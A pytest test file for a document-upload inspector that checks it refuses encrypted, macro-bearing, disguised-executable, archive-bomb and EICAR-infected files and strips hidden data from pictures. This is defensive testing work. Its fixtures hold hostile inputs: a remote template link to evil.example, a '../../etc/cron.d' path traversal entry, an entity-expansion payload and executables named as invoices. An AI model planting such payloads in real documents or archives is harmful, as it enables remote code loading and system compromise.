"""The child process tells good files from broken and hostile ones."""

import io
import os
import struct
from pathlib import Path

import pytest
from PIL import Image

from loket.core.outage import outage_of
from loket.documents.inspect.run import run_child
from loket.documents.inspect.verdict import Verdict
from loket.documents.rules.findings import Code
from loket.documents.rules.types import BY_CODE
from loket.documents.tests import makefiles as make
from loket.documents.tests.test_types import GOOD


class Inspected:
    """The verdict on some bytes, with the copies that were made."""

    def __init__(
        self, folder: Path, type_code: str, content: bytes, work: str = "", grown_to: int = 0
    ) -> None:
        file, cleaned, copy = folder / "file", folder / "cleaned", folder / "copy"
        file.write_bytes(content)
        if grown_to:
            os.truncate(file, grown_to)
        with cleaned.open("wb") as first, copy.open("wb") as second:
            family = BY_CODE[type_code].family.value
            self.verdict: Verdict = run_child(work or family, type_code, file, first, second)
        self.cleaned = cleaned.read_bytes()
        self.copy = copy.read_bytes()

    @property
    def code(self) -> str:
        return self.verdict.code


@pytest.mark.parametrize("name", GOOD)
def test_a_good_file_of_every_type_is_fine(name: str, tmp_path: Path) -> None:
    ending = name.rpartition(".")[2]

    inspected = Inspected(tmp_path, {"jpeg": "jpg"}.get(ending, ending), GOOD[name])

    assert inspected.code == ""
    assert inspected.verdict.fenced


@pytest.mark.parametrize(
    ("type_code", "content", "code"),
    [
        ("pdf", make.make_pdf(password="geheim"), Code.ENCRYPTED),
        ("docx", make.make_ole("EncryptionInfo", "EncryptedPackage"), Code.ENCRYPTED),
        ("xlsx", make.make_ole("EncryptionInfo", "EncryptedPackage"), Code.ENCRYPTED),
        ("odt", make.make_odf("text", encrypted=True), Code.ENCRYPTED),
        ("docx", make.make_ole("WordDocument"), Code.ENDING_DIFFERS),
        ("msg", make.make_ole("WordDocument"), Code.ENDING_DIFFERS),
        ("docx", make.make_xlsx(), Code.ENDING_DIFFERS),
        ("docx", make.make_zip({"a.txt": b"x"}), Code.ENDING_DIFFERS),
        ("odt", make.make_odf("spreadsheet"), Code.ENDING_DIFFERS),
        ("pdf", make.make_pdf() + make.make_zip({"a.exe": b"MZ"}), Code.ENDING_DIFFERS),
        ("pdf", make.make_picture("PNG"), Code.ENDING_DIFFERS),
        ("txt", b"<!DOCTYPE html><html><script>alert(1)</script></html>", Code.ENDING_DIFFERS),
        ("txt", b'<svg xmlns="http://www.w3.org/2000/svg"><script/></svg>', Code.ENDING_DIFFERS),
        ("txt", b"tekst" * 4000 + b"\x00", Code.ENDING_DIFFERS),
        ("eml", b"Dit is gewoon een tekst.", Code.ENDING_DIFFERS),
        ("pdf", make.make_pdf()[:60], Code.UNREADABLE),
        ("jpg", make.make_picture("JPEG")[:300], Code.UNREADABLE),
        ("png", make.make_picture("PNG")[:70], Code.UNREADABLE),
        ("heic", make.make_heic()[:900], Code.UNREADABLE),
        ("docx", make.make_docx()[:-40], Code.UNREADABLE),
        ("docx", make.make_docx({"word/vbaProject.bin": b"x"}), Code.MACROS),
        ("xlsx", make.make_xlsx({"xl/macrosheets/sheet1.xml": b"<x/>"}), Code.MACROS),
        (
            "docx",
            make.make_docx(kind="application/vnd.ms-word.document.macroEnabled.main+xml"),
            Code.MACROS,
        ),
        ("odt", make.make_odf("text", more={"Basic/Standard/Module1.xml": b"<x/>"}), Code.MACROS),
        ("msg", make.make_ole("__properties_version1.0", "_VBA_PROJECT"), Code.MACROS),
        ("pdf", make.make_pdf_that_launches(), Code.ACTIVE),
        ("pdf", make.make_pdf_with("start.exe", b"MZ\x90"), Code.ACTIVE),
        ("pdf", make.make_pdf_with("factuur.pdf", b"MZ\x90"), Code.ACTIVE),
        ("docx", make.make_docx({"word/embeddings/image.png": b"MZ\x90"}), Code.ACTIVE),
        (
            "docx",
            make.make_docx({"word/embeddings/oleObject1.bin": make.make_ole("\x01Ole10Native")}),
            Code.ACTIVE,
        ),
        (
            "docx",
            make.make_docx(
                {
                    "word/_rels/settings.xml.rels": b"<Relationships><Relationship "
                    b'Type="http://x/attachedTemplate" TargetMode="External" '
                    b'Target="http://evil.example/a.dotm"/></Relationships>'
                }
            ),
            Code.ACTIVE,
        ),
        ("eml", make.make_mail(attachment="factuur.exe"), Code.ACTIVE),
        ("eml", make.make_mail(attachment="factuur.pdf", content=b"MZ\x90"), Code.ACTIVE),
        (
            "msg",
            make.make_ole(
                "__properties_version1.0",
                "__substg1.0_3707001F",
                content="factuur.exe".encode("utf-16-le"),
            ),
            Code.ACTIVE,
        ),
        ("docx", make.make_bomb(), Code.ARCHIVE_BOMB),
        ("docx", make.make_nested(2), Code.ARCHIVE_BOMB),
        (
            "docx",
            make.make_docx({f"word/{number}.xml": b"<x/>" for number in range(1001)}),
            Code.ARCHIVE_BOMB,
        ),
        ("docx", make.make_docx({"../../etc/cron.d/x": b"x"}), Code.ARCHIVE_BOMB),
        (
            "docx",
            make.make_docx(
                {"word/a.xml": b'<!DOCTYPE a [<!ENTITY b "bbbb">]><a>&b;&b;</a>'},
            ),
            Code.ARCHIVE_BOMB,
        ),
        ("png", make.make_png_of(50_000, 50_000), Code.PICTURE_TOO_LARGE),
    ],
)
def test_a_broken_or_hostile_file_is_refused_for_its_own_reason(
    type_code: str, content: bytes, code: Code, tmp_path: Path
) -> None:
    inspected = Inspected(tmp_path, type_code, content)

    assert inspected.code == code
    assert inspected.cleaned == b""
    assert inspected.copy == b""


@pytest.mark.parametrize(
    ("type_code", "content"),
    [
        ("pdf", make.make_pdf(owner_only=True)),
        ("pdf", make.make_pdf_with_script()),
        ("pdf", make.make_pdf_with("factuur.xml", b"<Invoice/>")),
        ("pdf", b"\r\n" + make.make_pdf()),
        ("docx", make.make_nested(0)),
        ("docx", make.make_docx({"word/media/a.wmz": b"\x1f\x8b\x08"})),
        ("eml", make.make_mail(attachment="attest.pdf", content=b"%PDF-1.7")),
        ("txt", "Zoë".encode("utf-16")),
        ("txt", "Zoë".encode("cp1252")),
    ],
)
def test_what_people_really_send_is_taken(type_code: str, content: bytes, tmp_path: Path) -> None:
    assert Inspected(tmp_path, type_code, content).code == ""


@pytest.mark.parametrize(("type_code", "kind"), [("jpg", "JPEG"), ("png", "PNG")])
def test_a_picture_loses_what_it_hides_and_keeps_every_pixel(
    type_code: str, kind: str, tmp_path: Path
) -> None:
    original = make.make_picture(kind, hidden=True)
    assert make.PLACE.encode() in original

    inspected = Inspected(tmp_path, type_code, original + b"PK\x03\x04 and more behind the end")

    assert inspected.verdict.cleaned
    assert make.PLACE.encode() not in inspected.cleaned
    assert b"behind the end" not in inspected.cleaned
    assert _pixels(inspected.cleaned) == _pixels(original)


def test_a_photo_taken_upright_stays_upright(tmp_path: Path) -> None:
    original = make.make_picture("JPEG", orientation=6, hidden=True)

    inspected = Inspected(tmp_path, "jpg", original)

    with Image.open(io.BytesIO(inspected.cleaned)) as picture:
        assert dict(picture.getexif()) == {0x0112: 6}


def test_a_picture_without_hidden_data_stays_as_it_is(tmp_path: Path) -> None:
    inspected = Inspected(tmp_path, "jpg", make.make_picture("JPEG"))

    assert not inspected.verdict.cleaned
    assert inspected.cleaned == b""


def test_a_heic_photo_gets_a_jpg_and_loses_what_it_hides(tmp_path: Path) -> None:
    original = make.make_heic()
    assert b"Voorbeeldcamera" in original

    inspected = Inspected(tmp_path, "heic", original)

    assert inspected.verdict.copy_type == "jpg"
    with Image.open(io.BytesIO(inspected.copy)) as picture:
        assert (picture.format, picture.size) == ("JPEG", (48, 64))
        assert not picture.getexif()
    assert len(inspected.cleaned) == len(original)
    assert b"Voorbeeldcamera" not in inspected.cleaned


def test_an_archive_that_lies_about_its_sizes_is_refused(tmp_path: Path) -> None:
    honest = make.make_docx({"word/media/a.png": bytes(100_000)})
    lying = honest.replace(struct.pack("<I", 100_000), struct.pack("<I", 10))

    assert Inspected(tmp_path, "docx", lying).code == Code.UNREADABLE


def test_a_pdf_with_a_bomb_inside_is_refused(tmp_path: Path) -> None:
    bomb = make.make_pdf_with("bijlage.txt", bytes(30 * 1024 * 1024))

    assert Inspected(tmp_path, "pdf", bomb).code == Code.ARCHIVE_BOMB


def test_a_file_that_asks_too_much_memory_ends_only_the_child(tmp_path: Path) -> None:
    inspected = Inspected(tmp_path, "txt", b"tekst" * 2000, grown_to=400 * 1024 * 1024)

    assert inspected.code == Code.TOO_HEAVY
    assert inspected.verdict.detail == "MemoryError"


@pytest.mark.parametrize(
    ("type_code", "content"),
    [
        ("txt", make.make_virus()),
        ("txt", b"x" * 70_000 + make.make_virus()),
        ("docx", make.make_docx({"word/a.txt": make.make_virus()})),
        ("odt", make.make_odf("text", more={"a.txt": b"x" * 65_500 + make.make_virus()})),
        ("docx", make.make_docx({"word/a.zip": make.make_zip({"a.txt": make.make_virus()})})),
    ],
)
def test_the_test_virus_is_found_also_inside(
    type_code: str, content: bytes, tmp_path: Path
) -> None:
    assert Inspected(tmp_path, type_code, content, work="eicar").code == Code.INFECTED


def test_a_file_without_the_test_virus_is_clean(tmp_path: Path) -> None:
    assert Inspected(tmp_path, "docx", make.make_bomb(), work="eicar").code == ""


def _pixels(content: bytes) -> bytes:
    with Image.open(io.BytesIO(content)) as picture:
        return picture.tobytes()


@pytest.mark.parametrize("kind", ["jpg", "png", "heic"])
def test_a_full_disk_of_ours_says_nothing_about_the_file(tmp_path: Path, kind: str) -> None:
    file = tmp_path / "photo"
    pictures = {
        "jpg": make.make_picture("jpeg", hidden=True),
        "png": make.make_picture("png", hidden=True),
        "heic": make.make_heic(),
    }
    file.write_bytes(pictures[kind])
    full = Path("/dev/full")

    with full.open("wb") as cleaned, full.open("wb") as copy, pytest.raises(OSError) as told:  # noqa: PT011  its number is looked at
        run_child("picture", kind, file, cleaned, copy)

    assert outage_of(told.value) == "full"
